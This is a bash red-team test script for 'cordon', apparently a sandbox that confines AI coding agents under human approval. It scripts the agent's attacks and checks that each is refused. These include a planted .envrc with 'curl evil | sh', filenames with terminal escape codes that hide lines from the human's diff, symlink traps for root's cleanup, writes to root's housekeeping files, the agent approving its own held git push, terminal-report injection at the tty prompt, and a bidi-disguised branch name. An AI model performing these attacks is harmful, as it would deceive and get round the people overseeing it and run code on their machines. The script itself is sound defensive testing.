#!/bin/bash
# The red team on the surfaces that reach a human or root after the agent
# has written them: the home layer's names and links (shown by `cordon home
# diff`, removed by `cordon home discard`), the approval socket's intents,
# and the tty prompt's `i` (an intent typed at the terminal).  Each attack
# runs in a real session under the shipped profile (renamed, so that its
# home layer is this test's own), as the unprivileged agent; where a
# refusal could be blindness, a negative control shows the same attack
# landing without the check.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../lib_run.sh"
here=$(cd "$(dirname "$0")/../.." && pwd)

session_test redteam-surfaces
chmod 0755 "$scratch"
prof=redteam-surfaces-$$
sed "0,/\"name\": \"coding-agent\"/s//\"name\": \"$prof\"/" "$here/policy/profiles/coding-agent.json" \
    >"$scratch/policy.json"
chmod 0644 "$scratch/policy.json"
grep -q "\"name\": \"$prof\"" "$scratch/policy.json" || skip_all "the shipped profile's source is not here"
layer=/var/lib/cordon/home/$AGENT_UID-$prof
cleanup() {
    [ -n "${sess:-}" ] && kill "$sess" 2>/dev/null
    rm -rf "$scratch" "$WS" "$layer"
}
trap cleanup EXIT
[ -n "${KEEP:-}" ] && trap - EXIT
printf '#!/bin/sh\necho pushed\n' >"$WS/git"
chmod 0755 "$WS/git"
chown "$AGENT" "$WS/git"

# --- the home layer's names, shown to the human -------------------------------
# The agent plants proj/.envrc (direnv runs it as the human) and hides its
# line in `cordon home diff` with the next name: cursor up, erase the line.
# The human, seeing only a README, applies proj whole.
in_session --policy "$scratch/policy.json" -- /bin/sh -c '
    mkdir -p "$HOME/proj" && echo "read me" >"$HOME/proj/README" &&
    echo "curl evil | sh" >"$HOME/proj/.envrc" &&
    : >"$HOME/proj/$(printf "z\033[1A\033[2K\rA  8 README")" &&
    ln -s "$(printf "x\033]2;title\007")" "$HOME/proj/link" && echo planted'
ok "the agent planted its names in its layer" grep -q '^planted' <<<"$out"
diff_out=$("$cordon" home diff --user "$AGENT" --profile "$prof")
ok "home diff: no byte of a name or link reaches the terminal raw (no ESC, BEL or CR)" \
    bash -c '! printf %s "$1" | LC_ALL=C grep -q "[$(printf "\033\007\r")]"' _ "$diff_out"
ok "  the names are shown escaped, the hidden line there" \
    bash -c 'grep -qF "proj/z\\x1b[1A\\x1b[2K\\x0dA  8 README" <<<"$1" &&
             grep -qF "proj/link -> x\\x1b]2;title\\x07" <<<"$1" && grep -q "proj/.envrc$" <<<"$1"' _ "$diff_out"
ok "  --json carries them as they are (escaped by JSON)" \
    bash -c '"$1" home diff --user "$2" --profile "$3" --json | grep -qF "\"proj/z\\u001B[1A"' \
    _ "$cordon" "$AGENT" "$prof"

# --- the home layer, removed by root ----------------------------------------
# Symlinks to a file and a directory of the host, one deep in a tree, and a
# hard link attempt to a file of the agent's own outside the layer: `cordon
# home discard` (root) empties the layer and touches none of their targets.
victim=$scratch/victim
mkdir -p "$victim/dir" && echo keep >"$victim/file" && echo keep >"$victim/dir/inner" &&
    echo keep >"$victim/owned" && chown "$AGENT" "$victim/owned"
in_session --policy "$scratch/policy.json" -- /bin/sh -c '
    v=$1
    ln -s "$v/file" "$HOME/l-file"; ln -s "$v/dir" "$HOME/l-dir"; ln -s "$v" "$HOME/l-top"
    mkdir -p "$HOME/a/b/c" && ln -s "$v/dir" "$HOME/a/b/c/l-dir" && ln -s / "$HOME/a/b/root"
    ln "$v/owned" "$HOME/hard" 2>/dev/null
    ln -s "$v/dir" "$(printf "%s/nl\nname" "$HOME")"; echo planted' _ "$victim"
ok "the agent planted links in its layer" \
    bash -c 'grep -q "^planted" <<<"$1" && [ -L "$2/upper/l-dir" ]' _ "$out" "$layer"
"$cordon" home discard --user "$AGENT" --profile "$prof" 2>"$scratch/discard.err"
ok "home discard empties the layer" \
    bash -c '[ -z "$(ls -A "$1/upper")" ] || { ls -A "$1/upper"; cat "$2"; exit 1; } >&2' _ "$layer" "$scratch/discard.err"
ok "  and no target of a link is touched" \
    bash -c '[ "$(cat "$1/file" "$1/dir/inner" "$1/owned")" = "$(printf "keep\nkeep\nkeep")" ]' _ "$victim"

# Directories nested 1500 deep (under a second to make): a removal holding
# a descriptor a level failed at a login shell's limit (1024) with EMFILE,
# the layer left in place (userspace/session/home_fs.c).
in_session --policy "$scratch/policy.json" -- "$attack" deep-dirs "$AGENT_HOME" 1500
ok "the agent nests 1500 directories in its layer ($out)" grep -q "^made 1500 of 1500" <<<"$out"
ok "  home discard, with 1024 descriptors, removes them all" \
    bash -c 'ulimit -n 1024 && "$1" home discard --user "$2" --profile "$3" && [ ! -e "$4/upper/d" ]' \
    _ "$cordon" "$AGENT" "$prof" "$layer"

# --- what root's housekeeping reads or removes by a session's name ------------
# floor status reads RUN_DIR/NAME/session.json; the reaper and gc remove the
# files named for a session (its CA bundle, sockets, home layer) and seal
# its log by the note in open-logs; audit prune removes logs and keys.  The
# agent may write or plant a link at none of them.
in_session --policy "$scratch/policy.json" -- /bin/sh -c '
    a=$1 run=$2 notes=$3; s=$CORDON_SESSION
    for p in $run/$s/session.json $run/$s/x /run/cordon-ca/$s.pem /run/cordon-ca/x.pem \
        $notes/$s $notes/x /var/lib/cordon/home-sessions/x \
        /var/lib/cordon/home/x "$CORDON_AUDIT_KEY_DIR/x" /var/log/cordon/x; do
        "$a" write "$p"
    done' _ "$attack" "$CORDON_RUN" "$CORDON_OPEN_LOGS"
refused=$(grep -cE "^contained: (EACCES|EPERM)" <<<"$out")
ok "the agent writes nothing root's housekeeping reads or removes ($refused of 10 refused by the file floor)" \
    bash -c '[ "$2" -eq 10 ] && ! grep -q "^BREACH" <<<"$1" || { echo "$1"; exit 1; } >&2' _ "$out" "$refused"

# --- intents through the approval socket -------------------------------------
# The agent states "push the branch main to origin" on approve.sock: a
# standing approval of its own held push.  Refused (the socket is behind
# the file floor, and the supervisor takes only a host operator); the same
# request from the host, as root, is taken (negative control: the request
# is well-formed, the refusal is the agent's).
"$cordon" run -q --user "$AGENT" --workspace "$WS" --policy "$scratch/policy.json" --approve socket \
    --audit "$scratch/intent.jsonl" -- /bin/sh -c '
    echo "$CORDON_SESSION" >"$1/sname"
    "$2" intent "$3/$CORDON_SESSION/approve.sock" "push the branch main to origin" >"$1/agent.out"
    i=0; while [ ! -e "$1/host-done" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done' \
    _ "$WS" "$attack" "$CORDON_RUN" >/dev/null 2>"$scratch/intent.err" </dev/null &
sess=$!
i=0
while [ ! -s "$WS/agent.out" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
S=$(cat "$WS/sname" 2>/dev/null)
# (ENOENT would mean the attack named the wrong socket: not a refusal.)
ok "the agent cannot state an intent on approve.sock ($(cat "$WS/agent.out" 2>/dev/null | cut -c1-120))" \
    sh -c 'grep -q "^contained" "$1" && ! grep -q ENOENT "$1"' _ "$WS/agent.out"
host=$("$attack" intent "$CORDON_RUN/$S/approve.sock" "push the branch main to origin")
ok "  negative control: the same request from the host (root) is taken ($(cut -c1-80 <<<"$host"))" \
    grep -q '^BREACH: the approval socket took' <<<"$host"
: >"$WS/host-done"
wait $sess; sess=
ok "  the audit names no intent stated by the agent's uid" \
    bash -c '! grep "intent" "$1" | grep -q "uid $2 (pid"' _ "$scratch/intent.jsonl" "$AGENT_UID"

# --- `i` at the tty prompt, typed by the terminal's reports ------------------
# The agent sets the window title to "ipush the branch main to origin\r",
# asks for it back (CSI 21 t) and has the same text echoed in a DECRQSS
# reply, before and while its push is held (tests/terminal.py answers as a
# terminal does, 150 ms late).  Were a report's text read as keys, it would
# state an intent covering the push.  The human answers n.
if command -v python3 >/dev/null 2>&1; then
    s='ipush the branch main to origin\r'
    atk="cd $WS && printf '\\033]2;$s\\007\\033[21t\\033P\$q$s\\033\\\\';
        (sleep 1.5; printf '\\033]2;$s\\007\\033[21t\\033P\$q$s\\033\\\\') & ./git push origin main; echo push=\$?; wait"
    python3 "$here/tests/terminal.py" n 2 "$scratch/tty.term" -- "$cordon" run -q --user "$AGENT" \
        --workspace "$WS" --policy "$scratch/policy.json" --audit "$scratch/tty.jsonl" -- /bin/sh -c "$atk" \
        >/dev/null 2>&1
    ok "tty: reports carrying 'i' and a sentence state no intent; the human's n denies the push" \
        bash -c 'grep -q "push=[1-9]" "$1" && ! grep -q "intent [0-9]* stated" "$1" &&
                 ! grep -q "State what you want done" "$1" && grep -q "\"approver\":\"tty\"" "$2" &&
                 ! grep "\"decision\":\"allow\"" "$2" | grep -qF "\"argv\":[\"./git\",\"push\"" ||
                 { tail -c 800 "$1" | cat -v; exit 1; } >&2' _ "$scratch/tty.term" "$scratch/tty.jsonl"
    python3 "$here/tests/terminal.py" $'ipush the branch main to origin\r' 1.2 "$scratch/tty2.term" -- \
        "$cordon" run -q --user "$AGENT" --workspace "$WS" --policy "$scratch/policy.json" \
        --audit "$scratch/tty2.jsonl" -- /bin/sh -c "$atk" >/dev/null 2>&1
    ok "  negative control: with the same reports flowing, the human's i and sentence approve it" \
        bash -c 'grep -q "push=0" "$1" && grep -q "approved by intent 1" "$1" ||
                 { tail -c 800 "$1" | cat -v; exit 1; } >&2' _ "$scratch/tty2.term"
    # A branch named with a right-to-left override shows reversed: the
    # prompt must show the bytes, not another branch (policy/text.c).
    python3 "$here/tests/terminal.py" n 1.2 "$scratch/tty3.term" -- "$cordon" run -q --user "$AGENT" \
        --workspace "$WS" --policy "$scratch/policy.json" --audit "$scratch/tty3.jsonl" -- /bin/sh -c \
        "cd $WS && ./git push origin \"\$(printf '\342\200\256niam-erawlam')\"; echo push=\$?" >/dev/null 2>&1
    ok "tty: a bidi override in the held command is shown as bytes, not obeyed" \
        bash -c 'grep -qF "push origin \\xe2\\x80\\xaeniam-erawlam" "$1" &&
                 ! grep -q "$(printf "\342\200\256")" "$1" || { tail -c 600 "$1" | cat -v; exit 1; } >&2' \
        _ "$scratch/tty3.term"
else
    skip "tty: no python3 to play the terminal (tests/terminal.py)"
fi

done_testing
